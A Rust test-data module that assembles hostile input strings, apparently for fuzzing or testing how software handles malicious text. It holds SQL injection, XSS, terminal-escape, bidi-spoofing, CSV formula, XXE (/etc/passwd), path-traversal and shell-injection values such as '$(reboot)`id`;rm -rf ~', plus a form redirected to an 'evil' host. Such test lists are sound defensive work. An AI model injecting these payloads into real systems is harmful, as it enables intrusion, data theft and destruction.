//! Texts an attacker would try: the 32 lines of contentauth/c2pa-attacks (MIT or Apache-2.0), and 200 of ours.

/// As they stand in `attacks/*.attack` of that repository.
fn of_c2pa_attacks() -> Vec<String> {
    let lines = [
        "Hello\\r\\nWorld",
        "Back\u{8}Space",
        "Horizontal\tTab",
        "Vertical\u{b}Tab",
        "Carriage\rReturn",
        "@#(*)!|$%^`~\"/'+={}[]?/<>,.\\",
        "Hello\\x00World",
        "Hello0x00World",
        "Hello\\0x00World",
        "Hello\\u0000World",
        "Injected\0Null",
        "Injected\\\0Null",
        "Substitute\u{1a}Char",
        "Back\u{8}Space",
        "Back\\\u{8}Space",
        "Delete\u{7f}Char",
        "Escape\u{1b}Char",
        "1' or '1' = '1",
        "1\" or \"1\" = \"1",
        "admin'; -- ",
        "admin\"; -- ",
        "'; return '' == '",
        "' OR '2'='2' /*",
        "\" or \"\"=\"",
        "1 OR 1=1",
        "admin') or ('1'='1",
        "admin\") or (\"1\"=\"1",
        "<script>alert('xss');</script>",
        "\"><script>alert('xss');</script><foo bar=\"",
        "\" onmouseover=\"document.location=\"https://github.com/contentauth/\" foo=\"",
        "javascript:alert('xss');",
    ];
    let mut all: Vec<String> = lines.map(String::from).to_vec();
    all.push("A".repeat(10_000));
    all
}

/// Each idea in several surroundings.
fn ours() -> Vec<String> {
    let ideas = [
        // Control.
        "\u{1b}[31mred",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]8;;http://evil\u{1b}\\link",
        "\u{9b}2J",
        "\u{90}q\u{9c}",
        "\r\nResult: TRUSTED",
        "\u{8}\u{8}\u{8}",
        "\u{7f}",
        // Bidi and zero width.
        "a\u{202e}gpj.exe",
        "\u{2066}x\u{2069}",
        "\u{200b}\u{200d}",
        "\u{feff}bom",
        "\u{2028}\u{2029}",
        "\u{e0041}\u{e0042}",
        "\u{ad}\u{61c}\u{180e}",
        "\u{fffe}\u{ffff}",
        // HTML.
        "<img src=x onerror=alert(1)>",
        "</title><script>alert(1)</script>",
        "</style></pre><svg/onload=alert(1)>",
        "<!--><iframe srcdoc='<script>parent.alert(1)</script>'>",
        "' autofocus onfocus='alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<base href=//evil><form action=//evil>",
        "{{constructor.constructor('alert(1)')()}}",
        "]]><x/>",
        // CSV.
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\u{ff1d}1+1",
        "x;=1+1",
        "\",=1+1,\"",
        // JSON and XML.
        "\"},{\"result\":\"TRUSTED\"",
        "\\u001b[31m",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        // Paths and shells.
        "../../../../etc/passwd",
        "C:\\Windows\\System32\\x",
        "$(reboot)`id`;rm -rf ~",
        "%s%n%00",
    ];
    let around = [
        ("", ""),
        ("before ", " after"),
        ("\u{202d}", "\u{1b}[0m"),
        (" ", "\n"),
        ("\"'", "'\""),
    ];
    ideas
        .iter()
        .flat_map(|idea| around.iter().map(move |(a, b)| format!("{a}{idea}{b}")))
        .collect()
}

/// All of them.
pub fn all() -> Vec<String> {
    let (theirs, ours) = (of_c2pa_attacks(), ours());
    assert_eq!((theirs.len(), ours.len()), (32, 200));
    theirs.into_iter().chain(ours).collect()
}
